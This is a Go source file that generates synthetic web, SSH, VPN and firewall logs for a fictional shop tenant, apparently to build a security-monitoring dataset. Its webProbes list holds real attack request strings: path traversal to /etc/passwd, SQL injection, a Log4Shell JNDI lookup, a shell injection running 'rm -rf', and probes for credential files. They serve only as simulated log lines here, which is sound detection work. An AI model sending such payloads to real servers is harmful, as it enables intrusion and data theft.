package synth

import "strings"

// What comes from outside: customers of the shop, crawlers, and the scanners that never stop.

// internet makes the window's lines of strangers.
func (w *window) internet() {
	t0 := w.p.tenant
	r := newRandom(t0.seed, siteInternet, 0, w.number)
	w.r = &r
	n := float64(len(t0.users)) / 60
	l := localTime(w.from+(w.to-w.from)/2, hour)
	customers := 9 * n * curve(&customerCurve, l.hour) * weekdayCustomers[l.weekday]
	w.many(customers, w.visit)
	w.many(2*n, w.crawl)
	w.many(1.5*n, w.scanWeb)
	w.many(2.2*n, w.scanSSH)
	w.many(14*n, w.scanPorts)
	w.many(0.7*n, func(t int64) {
		w.v.ip, w.v.port = internetAddress(w.r), w.port()
		w.vpn(t, &vpnNoCert)
	})
	w.many(0.5*n, func(t int64) { // forgotten passwords of directory users, from their own homes
		u := t0.users[w.r.n(len(t0.users))]
		w.as(u, u.homeIP)
		w.entra(t, &apps[0], signIn{code: []string{"50126", "50126", "50074", "500121"}[w.r.n(4)], interactive: true, client: "Browser", town: u.town, policy: "notApplied", risk: "none", managed: true})
	})
}

var (
	shopPages = []string{
		"/", "/product/#", "/category/lamps", "/search?q=desk+lamp", "/assets/app.6f2c.js", "/assets/style.41ab.css", "/img/p/#.webp", "/cart",
		"/api/v2/stock?sku=#", "/product/#/reviews?page=2", "/category/chairs?sort=price&page=3", "POST /cart/add", "/checkout", "/account/orders/#",
		"POST /api/v2/events", "/login", "POST /login", "/help/returns", "/favicon.ico", "/robots.txt", "/sitemap.xml", "POST /checkout/pay", "/blog/2025/02/light-at-work",
		"/search?q=%E7%85%A7%E6%98%8E", "/account/password/reset?token=#", "/apple-touch-icon.png",
	}
	webProbes = []string{
		"/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/index.php", "/admin/", "/xmlrpc.php", "/actuator/health", "/cgi-bin/luci/;stok=/locale",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system?wt=json", "/owa/auth/logon.aspx", "/api/v1/pods",
		"/index.php?page=../../../../etc/passwd", "/product/1'%20OR%20'1'='1", "/?x=${jndi:ldap://198.18.77.9/a}", "/boaform/admin/formLogin?username=admin&psd=admin",
		"/backup.zip", "/config.json", "/server-status", "/.aws/credentials", "/manager/html", "/console/login/LoginForm.jsp", "/HNAP1/", "/shell?cd+/tmp;rm+-rf+*",
	}
	probeAgents = []string{
		"Mozilla/5.0 zgrab/0.x", "python-requests/2.32.3", "Go-http-client/1.1", "curl/8.5.0", "-", "Mozilla/5.0 (compatible; scanmoss/1.2; +https://scanmoss.example)",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/58.0.3029.110 Safari/537.36",
	}
	crawlers = []string{
		"Mozilla/5.0 (compatible; orbitbot/2.1; +http://orbit.example/bot.html)", "Mozilla/5.0 (compatible; leafcrawl/7~bl; +http://leafcrawl.example/robot)",
		"pricefinch/1.0 (+https://pricefinch.example)",
	}
)

// visit is one customer: a few pages over one connection.
func (w *window) visit(t int64) {
	r := w.r
	web := w.p.tenant.webs[r.n(len(w.p.tenant.webs))]
	f := flow{from: internetAddress(r), to: web.ip, fromPort: r.between(1025, 65535), toPort: 443, proto: 6, eni: web.eni}
	agent := browsers[r.zipf(len(browsers))]
	referer := []string{"-", "https://www.orbit.example/", "https://pricefinch.example/compare", "-"}[r.n(4)]
	begin := t
	for range r.between(1, 7) {
		q := request{client: f.from, user: "-", method: "GET", target: strings.Replace(shopPages[r.zipf(len(shopPages))], "#", string(appendInt(nil, 1000+r.zipf(4000))), 1),
			status: 200, bytes: r.logUniform(300, 120_000), referer: referer, agent: agent, proto: "HTTP/2.0", host: "shop.umbrin.example", seconds: 0.003 + 0.5*r.float()*r.float()*r.float()}
		if strings.HasPrefix(q.target, "POST ") {
			q.method, q.target, q.status = "POST", q.target[5:], []int{200, 302, 422}[r.zipf(3)]
		} else if r.chance(0.12) {
			q.status, q.bytes = []int{304, 404, 301, 499, 500, 502}[r.zipf(6)], int64([]int{0, 548, 162}[r.n(3)])
		}
		w.nginx(t, web, &q)
		f.packets += 5 + q.bytes/1400
		f.bytes += 800 + q.bytes/12 // what arrives is less than what leaves
		if !strings.Contains(q.target, ".") {
			referer = "https://shop.umbrin.example" + q.target
		}
		t += r.micros(0.05, 25)
	}
	f.duration = t - begin
	w.vpcFlow(begin, &f)
	if r.chance(0.4) {
		w.vpcFlow(begin, &flow{from: f.to, to: f.from, fromPort: 443, toPort: f.fromPort, proto: 6, packets: f.packets + 3, bytes: f.bytes * 11, duration: f.duration, eni: f.eni})
	}
}

// crawl is a search engine's robot.
func (w *window) crawl(t int64) {
	r := w.r
	web := w.p.tenant.webs[r.n(len(w.p.tenant.webs))]
	n := r.n(len(crawlers))
	client := "198.18.240." + string(appendInt(nil, 10+n*20+r.n(8)))
	for range r.between(1, 6) {
		q := request{client: client, user: "-", method: "GET", target: strings.Replace(shopPages[[]int{0, 1, 2, 9, 10, 19, 20, 22}[r.n(8)]], "#", string(appendInt(nil, r.between(1000, 5000))), 1),
			status: 200, bytes: r.logUniform(2000, 60_000), referer: "-", agent: crawlers[n], proto: "HTTP/1.1", host: "shop.umbrin.example", seconds: 0.01 + 0.2*r.float()}
		w.nginx(t, web, &q)
		t += r.micros(1, 30)
	}
}

// scanWeb is somebody looking for holes.
func (w *window) scanWeb(t int64) {
	r := w.r
	web := w.p.tenant.webs[r.n(len(w.p.tenant.webs))]
	f := flow{from: internetAddress(r), to: web.ip, fromPort: r.between(1025, 65535), toPort: []int{80, 443}[r.n(2)], proto: 6, packets: 9, bytes: 1400, eni: web.eni, duration: r.micros(0.5, 9)}
	agent := r.pick(probeAgents)
	if r.chance(0.15) { // not even HTTP
		w.nginx(t, web, &request{client: f.from, user: "-", target: []string{`\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03`, `\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr`, "", "MGLNDD_192.0.2.30_80"}[r.n(4)],
			status: 400, bytes: 150, referer: "-", agent: "-", host: "-"})
	} else {
		for range r.between(1, 5) {
			q := request{client: f.from, user: "-", method: "GET", target: webProbes[r.zipf(len(webProbes))], status: []int{404, 404, 403, 301, 400}[r.zipf(5)], bytes: int64([]int{548, 146, 162}[r.n(3)]),
				referer: "-", agent: agent, proto: "HTTP/1.1", host: "192.0.2.30", seconds: 0.001}
			w.nginx(t, web, &q)
			t += r.micros(0.1, 2)
		}
	}
	w.vpcFlow(t, &f)
}

// scanSSH tries names and passwords at the bastion.
func (w *window) scanSSH(t int64) {
	r := w.r
	h := w.p.tenant.bastion
	w.v.ip, w.v.port, w.v.pid = internetAddress(r), r.between(1025, 65535), r.between(1200, 64000)
	account := spareLogins[r.zipf(len(spareLogins))]
	lines := sshStranger[r.zipf(len(sshStranger))]
	w.sshFlow(t, h, w.v.ip, w.v.port, r.micros(1, 8), 900, false)
	w.v.s[0] = account
	for i := range lines {
		w.auth(t, h, "sshd", w.v.pid, &lines[i])
		t += r.micros(0, 1.2)
	}
	if len(lines) > 3 {
		w.v.s[3] = string(appendAuditString(nil, account))
		w.audit(t, h).record("USER_LOGIN", &auditLogAlien, &auditByUnset)
	}
}

var scannedPorts = []int{23, 445, 3389, 8080, 22, 5060, 1433, 6379, 80, 3306, 2323, 8443, 5900, 9200, 123, 161, 7547, 27017, 5555, 11211}

// scanPorts knocks at closed doors: of the offices' firewall, and of the cloud's hosts.
func (w *window) scanPorts(t int64) {
	r := w.r
	f := flow{from: internetAddress(r), fromPort: r.between(1025, 65535), toPort: scannedPorts[r.zipf(len(scannedPorts))], proto: 6, packets: 1, bytes: 44, drop: true}
	if f.toPort == 5060 || f.toPort == 123 || f.toPort == 161 {
		f.proto = 17
	} else if r.n(25) == 0 {
		f.proto = 1
	}
	if strings.Contains(f.from, ":") {
		f.from = "198.18.3." + string(appendInt(nil, r.n(256)))
	}
	if r.chance(0.45) {
		f.to = "192.0.2." + string(appendInt(nil, []int{10, 20, 21, 22}[r.n(4)]))
		for range r.between(1, 2) {
			w.iptables(t, w.p.tenant.firewall, "eth0", "", "FW-DROP ", &f)
			t += r.micros(0.9, 1.1)
		}
		return
	}
	h := w.p.tenant.webs[r.n(len(w.p.tenant.webs))]
	if r.chance(0.3) {
		h = w.p.tenant.bastion
	}
	f.to, f.eni = h.ip, h.eni
	if f.proto == 1 {
		f.fromPort, f.toPort = 0, 0
	}
	w.vpcFlow(t, &f)
	if r.chance(0.5) {
		w.iptables(t, h, "eth0", "", "[UFW BLOCK] ", &f)
	}
}
